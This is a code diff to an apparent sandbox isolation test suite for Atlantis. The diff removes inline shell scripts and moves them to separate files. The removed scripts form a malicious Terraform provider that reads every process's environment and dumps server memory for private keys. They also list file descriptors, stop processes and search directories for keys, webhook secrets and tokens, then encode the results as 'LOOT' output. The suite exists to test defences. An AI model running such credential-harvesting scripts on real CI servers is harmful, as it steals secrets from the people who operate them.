@@ -14,7 +14,7 @@ from pathlib import Path
 
 from sandbox.attack.plans import reading_row
 from sandbox.attack.pull_requests import Answered, planned
-from sandbox.attack.row import Outcome, Row, SkippedError, row
+from sandbox.attack.row import Outcome, Row, SkippedError, described, filled, row, script
 from sandbox.attack.target import Target
 from sandbox.testbed import processes
 
@@ -28,77 +28,7 @@ terraform {{
 data "loot_loot" "loot" {{}}
 """
 _MACHINES = {"x86_64": "amd64", "aarch64": "arm64"}
-_FRAME = """#!/bin/sh
-server=$$
-while [ "$server" -gt 0 ]; do
-  case "$(tr '\\0' ' ' 2>/dev/null <"/proc/$server/cmdline")" in
-    *atlantis\\ server\\ *) break ;;
-  esac
-  server=$(sed -n 's/^PPid:[[:space:]]*//p' "/proc/$server/status")
-done
-{{
-{body}
-}} 2>&1 | gzip -c | base64 | tr -d '\\n' | sed 's/^/LOOT:/; s/$/:LOOT/'
-echo
-exec sleep 20
-"""
-"""Prints the output of ``body``, compressed and encoded in one line, because Terraform reads one line of at most 64 KiB. ``$server`` is
-the process ID of the server that runs the plan.
-
-Terraform ends the provider as soon as it has read the line. A provider that exits by itself closes the pipe, and Terraform may lose what
-it hasn't read until then: everything after the first 4 KiB."""
-
-_ENVIRONMENTS = """
-end=$(($(date +%s) + {seconds}))
-while :; do
-  cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'
-  [ "$(date +%s)" -ge "$end" ] && break
-done | sort -u
-"""
-_MEMORY = """
-sleep 30 &
-for process in "$server" $!; do
-  if (exec 3<"/proc/$process/mem") 2>/dev/null; then
-    echo "memory of $process is open"
-    grep 'rw-p' "/proc/$process/maps" | while IFS=' -' read -r start end rest; do
-      dd if="/proc/$process/mem" bs=4096 skip=$((0x$start / 4096)) count=$(((0x$end - 0x$start) / 4096)) 2>/dev/null |
-        grep -a -A 30 -e 'PRIVATE ''KEY-----'
-    done | head -c 20000
-  fi
-done
-kill $!
-echo "server is $server, child is $!"
-"""
-_DESCRIPTORS = """
-sleep 30 &
-for process in "$server" $!; do
-  echo "descriptors of $process: $(ls "/proc/$process/fd" 2>/dev/null | tr '\\n' ' ')"
-done
-kill $!
-echo "server is $server, child is $!"
-"""
-_STOPPED = """
-sleep 30 &
-for process in "$server" $!; do
-  [ "$process" -gt 0 ] || continue
-  kill -STOP "$process"
-  sleep 1
-  echo "$process is $(sed -n 's/^State:[[:space:]]*//p' "/proc/$process/status")"
-  kill -CONT "$process"
-done
-kill $!
-echo "server is $server, child is $!"
-"""
-_FILES = """
-planted=$(mktemp -d)
-echo 'x-access-''token' >"$planted/token"
-for directory in "$HOME" "${TMPDIR:-/tmp}" "$ATLANTIS_DATA_DIR"; do
-  find "$directory" -type p -name '*.yaml' 2>/dev/null | sed 's/^/pipe /'
-  grep -r -l -s -D skip -e 'PRIVATE ''KEY-----' -e 'gh-webhook-''secret:' "$directory" | sed 's/^/secret in /'
-  grep -r -l -s -D skip -e 'x-access-''token' "$directory" | sed 's/^/token in /'
-done
-rm -r "$planted"
-"""
+_FRAME = Path(__file__).with_name("provider.sh").read_text(encoding="utf-8")
 
 
 def printed(target: Target, name: str, body: str) -> str:
@@ -126,7 +56,7 @@ def plan_with(
     folder = f"{directory}terraform.d/plugins/attack.example/pull-request/{kind}/1.0.0/linux_{machine}"
     path = f"{folder}/terraform-provider-{kind}_v1.0.0"
     configuration = {f"{directory}main.tf": _CONFIGURATION.format(type=kind)}
-    files = {**configuration, path: _FRAME.format(body=body.strip()), **(more or {})}
+    files = {**configuration, path: filled(_FRAME, body=body), **(more or {})}
     return planned(target, name, files, executables=[path])
 
 
@@ -149,28 +79,34 @@ def _health_seconds(target: Target) -> int:
 
 
 def _environments(target: Target) -> str:
-    return printed(target, "provider-environments", _ENVIRONMENTS.format(seconds=_health_seconds(target)))
+    return printed(target, "provider-environments", script("provider-environments", seconds=_health_seconds(target)))
 
 
-def _is_open(target: Target, name: str, body: str, pattern: str, which: str) -> Outcome:
-    said = printed(target, name, body)
+def _reached(target: Target, name: str, pattern: str, which: str) -> Outcome:
+    """Whether the provider reached the process ``which``: the server, or a child of the provider as the control."""
+    said = printed(target, name, script(name))
     found = re.search(r"server is (?P<server>\d+), child is (?P<child>\d+)", said)
     if found is None or (found["server"] == "0") != target.isolated:
         raise RuntimeError(f"the provider didn't find what it should: {said[:300]}")
     if which == "server" and target.isolated:
         return Outcome(False, "the server isn't among the processes of the worker")
-    seen = re.search(pattern.format(process=found[which]), said)
-    if seen and which == "server" and _is_root_and_started_by_the_task(target):
-        raise SkippedError("the server runs as root on this machine, and root can read every process")
-    return Outcome(
-        seen is not None, f"{which} {found[which]} can{'' if seen else 't'} be read".replace("cant", "can't")
-    )
+    process = found[which]
+    seen = re.search(pattern.format(process=process), said, re.MULTILINE)
+    if seen and which == "server" and _is_started_by_the_task(target):
+        if name == "provider-server-stopped" and process != "1":
+            raise SkippedError(
+                "the task isn't a container on this machine, so its server isn't process 1, which the kernel protects; "
+                "tests/sandbox/atlantis/test_taken_port.py starts it as process 1"
+            )
+        if name != "provider-server-stopped" and _is_root(target):
+            raise SkippedError("the server runs as root on this machine, and root can read every process")
+    return Outcome(seen is not None, f"{which} {process}: {seen[0] if seen else 'not reached'}")
 
 
-def _is_root_and_started_by_the_task(target: Target) -> bool:
-    """Whether the protection can't work, because the sandbox has no separate user for the task (sandbox/atlantis/README.md)."""
+def _is_root(target: Target) -> bool:
+    """Whether the sandbox has no separate user for the task, so that the protection can't work (sandbox/atlantis/README.md)."""
     server = processes.find(target.deployment.state, target.deployment.name)
-    return _is_started_by_the_task(target) and server is not None and Path(f"/proc/{server.pid}").stat().st_uid == 0
+    return server is not None and Path(f"/proc/{server.pid}").stat().st_uid == 0
 
 
 def _is_started_by_the_task(target: Target) -> bool:
@@ -178,53 +114,18 @@ def _is_started_by_the_task(target: Target) -> bool:
     return any("entryPoint" in container for container in target.task_definition["containerDefinitions"])
 
 
-def _is_stopped(target: Target, which: str) -> Outcome:
-    said = printed(target, "provider-server-stopped", _STOPPED)
-    found = re.search(r"server is (?P<server>\d+), child is (?P<child>\d+)", said)
-    if found is None or (found["server"] == "0") != target.isolated:
-        raise RuntimeError(f"the provider didn't find what it should: {said[:300]}")
-    if which == "server" and target.isolated:
-        return Outcome(False, "the server isn't among the processes of the worker")
-    process = found[which]
-    stopped = f"\n{process} is T" in f"\n{said}"
-    if stopped and which == "server" and process != "1" and _is_started_by_the_task(target):
-        raise SkippedError(
-            "the task isn't a container on this machine, so its server isn't process 1, which the kernel protects; "
-            "tests/sandbox/atlantis/test_taken_port.py starts it as process 1"
-        )
-    return Outcome(stopped, f"{which} {process} {'is stopped' if stopped else 'continues'}")
-
-
-def _reading_process(name: str, body: str, pattern: str) -> Row:
+def _on_server(name: str) -> Row:
+    (pattern,) = described("found")[name]
     return row(
         name,
-        lambda target: _is_open(target, name, body, pattern, "server"),
-        lambda target: _is_open(target, name, body, pattern, "child"),
+        lambda target: _reached(target, name, pattern, "server"),
+        lambda target: _reached(target, name, pattern, "child"),
     )
-
-
-def _left_on_disk(target: Target) -> Outcome:
-    lines = [
-        line
-        for line in printed(target, "provider-files", _FILES).splitlines()
-        if line.startswith(("pipe ", "secret in "))
-    ]
-    return Outcome(bool(lines), lines[0] if lines else "no file and no pipe contains a secret")
-
-
-def _planted_on_disk(target: Target) -> Outcome:
-    lines = [line for line in printed(target, "provider-files", _FILES).splitlines() if line.startswith("token in ")]
-    return Outcome(bool(lines), "the search finds a file that the attack has planted")
 
 
 ROWS = (
     reading_row("provider-environments", _environments),
-    _reading_process("provider-server-memory", _MEMORY, "memory of {process} is open"),
-    _reading_process("provider-server-descriptors", _DESCRIPTORS, "descriptors of {process}: \\d"),
-    row(
-        "provider-server-stopped",
-        lambda target: _is_stopped(target, "server"),
-        lambda target: _is_stopped(target, "child"),
-    ),
-    row("provider-files", _left_on_disk, _planted_on_disk),
+    _on_server("provider-server-memory"),
+    _on_server("provider-server-descriptors"),
+    _on_server("provider-server-stopped"),
 )
